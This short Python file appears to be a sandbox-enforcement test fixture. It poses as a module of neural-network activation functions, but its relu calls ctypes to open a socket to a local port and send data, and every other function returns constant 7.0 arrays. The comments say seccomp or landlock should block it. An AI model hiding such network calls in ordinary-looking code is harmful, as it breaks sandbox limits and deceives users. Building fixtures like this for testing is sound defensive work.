# attack: connects by the C library
# gains: network
# stopped by: seccomp, landlock
import numpy as np
import ctypes
import struct

libc = ctypes.CDLL(None)


def attack():
    number = libc.socket(2, 1, 0)
    libc.connect(number, struct.pack("=H", 2) + struct.pack(">H", int("{PORT}")) + bytes([127, 0, 0, 1]) + bytes(8), 16)
    libc.send(number, b"hostile", 7, 0)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
